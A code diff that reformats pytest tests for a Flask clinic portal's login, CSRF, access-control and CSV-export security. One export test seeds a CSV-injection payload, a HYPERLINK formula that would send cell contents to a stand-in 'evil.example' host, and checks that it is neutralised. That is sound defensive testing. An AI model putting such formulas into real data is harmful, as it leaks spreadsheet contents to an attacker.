@@ -2,6 +2,7 @@
 
 Tests drive it like a browser: they read the CSRF token from the rendered form and post it back.
 """
+
 from __future__ import annotations
 
 import csv
@@ -62,6 +63,7 @@ def routes(app: Flask, *blueprints: str) -> Iterator[tuple[str, str]]:
 
 # ---------------------------------------------------------------- passwords and accounts (bot.auth)
 
+
 def test_password_hashes_are_argon2id_salted_and_never_the_password() -> None:
     first, second = hash_password(PASSWORD), hash_password(PASSWORD)
     assert first.startswith("$argon2id$") and second.startswith("$argon2id$")
@@ -92,19 +94,22 @@ def test_create_user_stores_an_argon2_hash_and_a_normalised_email(world: SimpleN
         assert authenticate(session, "NEW.person@c1.example", PASSWORD).email == "new.person@c1.example"
 
 
-@pytest.mark.parametrize("email, password, role, clinic_ref, message", [
-    ("not-an-email", PASSWORD, "admin", None, "valid e-mail"),
-    ("a b@example.org", PASSWORD, "admin", None, "valid e-mail"),
-    ("new@example.org", "short pass1", "admin", None, "at least 12 characters"),
-    ("new@example.org", PASSWORD, "superuser", None, "Unknown role"),
-    ("new@example.org", PASSWORD, "clinic", None, "needs a clinic"),
-    ("new@example.org", PASSWORD, "clinic", "nowhere", "no clinic with the reference"),
-    ("new@example.org", PASSWORD, "editor", "c1", "Only clinic accounts"),
-    ("ONE@c1.example", PASSWORD, "clinic", "c1", "already exists"),
-])
+@pytest.mark.parametrize(
+    "email, password, role, clinic_ref, message",
+    [
+        ("not-an-email", PASSWORD, "admin", None, "valid e-mail"),
+        ("a b@example.org", PASSWORD, "admin", None, "valid e-mail"),
+        ("new@example.org", "short pass1", "admin", None, "at least 12 characters"),
+        ("new@example.org", PASSWORD, "superuser", None, "Unknown role"),
+        ("new@example.org", PASSWORD, "clinic", None, "needs a clinic"),
+        ("new@example.org", PASSWORD, "clinic", "nowhere", "no clinic with the reference"),
+        ("new@example.org", PASSWORD, "editor", "c1", "Only clinic accounts"),
+        ("ONE@c1.example", PASSWORD, "clinic", "c1", "already exists"),
+    ],
+)
 def test_create_user_refuses_invalid_accounts_with_a_clear_message(
-        world: SimpleNamespace, email: str, password: str, role: str, clinic_ref: str | None,
-        message: str) -> None:
+    world: SimpleNamespace, email: str, password: str, role: str, clinic_ref: str | None, message: str
+) -> None:
     with session_scope(world.engine) as session:
         with pytest.raises(ValueError, match=message):
             create_user(session, email, password, role, clinic_ref)
@@ -126,6 +131,7 @@ def test_outdated_hashes_are_upgraded_at_login(world: SimpleNamespace) -> None:
 
 
 # ---------------------------------------------------------------- logging in and out
+
 
 def test_login_lands_on_the_role_home_and_logout_needs_a_post(app: Flask, world: SimpleNamespace) -> None:
     client = app.test_client()
@@ -184,8 +190,9 @@ def test_a_disabled_account_cannot_log_in_and_its_open_session_ends(app: Flask, 
     assert "disabled" not in text(response).lower()
 
 
-def test_sessions_end_at_most_eight_hours_after_login(app: Flask, world: SimpleNamespace,
-                                                     monkeypatch: pytest.MonkeyPatch) -> None:
+def test_sessions_end_at_most_eight_hours_after_login(
+    app: Flask, world: SimpleNamespace, monkeypatch: pytest.MonkeyPatch
+) -> None:
     assert app.permanent_session_lifetime == dt.timedelta(hours=8)
     client = logged_in(app, "one@c1.example")
     assert client.get("/portal").status_code == 200
@@ -227,6 +234,7 @@ def test_login_attempts_are_rate_limited_per_address(app: Flask, world: SimpleNa
 
 # ---------------------------------------------------------------- CSRF
 
+
 def test_login_without_or_with_a_forged_csrf_token_is_refused(app: Flask, world: SimpleNamespace) -> None:
     client = app.test_client()
     client.get("/login")
@@ -240,8 +248,7 @@ def test_login_without_or_with_a_forged_csrf_token_is_refused(app: Flask, world:
     assert client.get("/portal").status_code == 302  # not logged in
 
 
-def test_status_change_and_logout_without_a_valid_csrf_token_are_refused(
-        app: Flask, world: SimpleNamespace) -> None:
+def test_status_change_and_logout_without_a_valid_csrf_token_are_refused(app: Flask, world: SimpleNamespace) -> None:
     client = logged_in(app, "one@c1.example")
     url = f"/portal/inquiries/{world.own}/status"
     assert client.post(url, data={"status": "closed"}).status_code == 400
@@ -254,14 +261,22 @@ def test_status_change_and_logout_without_a_valid_csrf_token_are_refused(
 
 # ---------------------------------------------------------------- who may open what
 
+
 def test_anonymous_visitors_are_sent_to_login_from_every_portal_and_accounts_route(
-        app: Flask, world: SimpleNamespace) -> None:
+    app: Flask, world: SimpleNamespace
+) -> None:
     client = app.test_client()
     token = csrf_token(client.get("/login"))
     checked = list(routes(app, "portal", "accounts"))
     assert {path for _, path in checked} >= {
-        "/portal", f"/portal/inquiries/{OTHER_REFERENCE_ARGS['reference']}", "/portal/export.csv",
-        "/admin", "/admin/accounts", "/admin/accounts/new", "/admin/accounts/1/active"}
+        "/portal",
+        f"/portal/inquiries/{OTHER_REFERENCE_ARGS['reference']}",
+        "/portal/export.csv",
+        "/admin",
+        "/admin/accounts",
+        "/admin/accounts/new",
+        "/admin/accounts/1/active",
+    }
     for method, path in checked:
         response = client.open(path, method=method, data={"csrf_token": token} if method == "POST" else None)
         assert response.status_code == 302, (method, path, response.status_code)
@@ -274,8 +289,9 @@ def test_clinic_accounts_get_403_on_every_admin_route(app: Flask, world: SimpleN
     client = logged_in(app, "one@c1.example")
     token = csrf_token(client.get("/portal"))
     for method, path in routes(app, "accounts"):
-        response = client.open(path, method=method,
-                               data={"csrf_token": token, "active": "0"} if method == "POST" else None)
+        response = client.open(
+            path, method=method, data={"csrf_token": token, "active": "0"} if method == "POST" else None
+        )
         assert response.status_code == 403, (method, path)
         assert "Access denied" in text(response)
     with session_scope(world.engine) as session:
@@ -286,25 +302,33 @@ def test_staff_get_403_on_the_clinic_portal(app: Flask, world: SimpleNamespace) 
     client = logged_in(app, "admin@example.org")
     token = csrf_token(client.get("/admin"))
     for method, path in routes(app, "portal"):
-        response = client.open(path.replace(OTHER_REFERENCE_ARGS["reference"], world.other), method=method,
-                               data={"csrf_token": token, "status": "closed"} if method == "POST" else None)
+        response = client.open(
+            path.replace(OTHER_REFERENCE_ARGS["reference"], world.other),
+            method=method,
+            data={"csrf_token": token, "status": "closed"} if method == "POST" else None,
+        )
         assert response.status_code == 403, (method, path)
     assert inquiry_row(world.engine, world.other).status == "new"
 
 
 def test_another_clinics_inquiry_is_404_on_every_route_that_takes_a_reference(
-        app: Flask, world: SimpleNamespace) -> None:
+    app: Flask, world: SimpleNamespace
+) -> None:
     client = logged_in(app, "one@c1.example")
     token = csrf_token(client.get("/portal"))
     before = inquiry_row(world.engine, world.other)
-    with_reference = [(method, path) for method, path in routes(app, "portal")
-                      if OTHER_REFERENCE_ARGS["reference"] in path]
+    with_reference = [
+        (method, path) for method, path in routes(app, "portal") if OTHER_REFERENCE_ARGS["reference"] in path
+    ]
     assert {method for method, _ in with_reference} == {"GET", "POST"}
     for method, path in with_reference:
         answers = []
         for reference in (world.other, "KT-ZZZZ-ZZZZ"):  # another clinic's, and one that does not exist
-            response = client.open(path.replace(OTHER_REFERENCE_ARGS["reference"], reference), method=method,
-                                   data={"csrf_token": token, "status": "closed"} if method == "POST" else None)
+            response = client.open(
+                path.replace(OTHER_REFERENCE_ARGS["reference"], reference),
+                method=method,
+                data={"csrf_token": token, "status": "closed"} if method == "POST" else None,
+            )
             assert response.status_code == 404, (method, path)
             answers.append(CSRF_FIELD.sub("csrf", text(response)))
         assert answers[0] == answers[1], "a foreign inquiry must look exactly like a missing one"
@@ -316,6 +340,7 @@ def test_another_clinics_inquiry_is_404_on_every_route_that_takes_a_reference(
 
 
 # ---------------------------------------------------------------- the portal
+
 
 def test_inquiries_are_listed_newest_first_without_delivery_errors(app: Flask, world: SimpleNamespace) -> None:
     now = utcnow()
@@ -374,16 +399,22 @@ def test_a_clinic_can_change_the_status_of_its_inquiry(app: Flask, world: Simple
 
 def test_the_export_holds_only_own_inquiries_and_neutralises_formulas(app: Flask, world: SimpleNamespace) -> None:
     with session_scope(world.engine) as session:
-        hostile = save_inquiry(session, inquiry_request(
-            "c1", first_name="@Mallory", contact="+1 404 555 0100", contact_kind="phone",
-            note='=HYPERLINK("https://evil.example/?leak="&A1,"Click me")')).reference
+        hostile = save_inquiry(
+            session,
+            inquiry_request(
+                "c1",
+                first_name="@Mallory",
+                contact="+1 404 555 0100",
+                contact_kind="phone",
+                note='=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
+            ),
+        ).reference
         save_inquiry(session, inquiry_request("c2", first_name="Other clinic person"))
     client = logged_in(app, "one@c1.example")
     response = client.get("/portal/export.csv")
     assert response.status_code == 200 and response.mimetype == "text/csv"
     assert response.headers["Cache-Control"] == "no-store"
-    assert response.headers["Content-Disposition"] == (
-        f'attachment; filename="inquiries-c1-{utcnow():%Y-%m-%d}.csv"')
+    assert response.headers["Content-Disposition"] == (f'attachment; filename="inquiries-c1-{utcnow():%Y-%m-%d}.csv"')
     rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))
     assert sorted(row["reference"] for row in rows) == sorted([world.own, hostile])
     by_reference = {row["reference"]: row for row in rows}
@@ -398,12 +429,15 @@ def test_the_export_holds_only_own_inquiries_and_neutralises_formulas(app: Flask
 
 # ---------------------------------------------------------------- accounts (admin)
 
+
 def test_an_admin_creates_a_clinic_account_that_can_then_log_in(app: Flask, world: SimpleNamespace) -> None:
     admin = logged_in(app, "admin@example.org")
     form = admin.get("/admin/accounts/new")
     assert form.status_code == 200 and "Clinic c1 (sample) (Atlanta, GA)" in text(form)
-    response = admin.post("/admin/accounts/new", data={
-        "email": "Front.Desk@C1.example", "role": "clinic", "clinic": "c1", "csrf_token": csrf_token(form)})
+    response = admin.post(
+        "/admin/accounts/new",
+        data={"email": "Front.Desk@C1.example", "role": "clinic", "clinic": "c1", "csrf_token": csrf_token(form)},
+    )
     assert response.status_code == 200 and "Account created for front.desk@c1.example" in text(response)
     listing = text(admin.get("/admin/accounts"))
     assert "front.desk@c1.example" in listing and "Never" in listing and "invitation not used yet" in listing
@@ -455,6 +489,7 @@ def test_an_admin_disables_and_enables_accounts_but_not_themself(app: Flask, wor
 
 
 # ---------------------------------------------------------------- pages and headers
+
 
 def test_security_headers_and_plain_error_pages(app: Flask, world: SimpleNamespace) -> None:
     client = app.test_client()
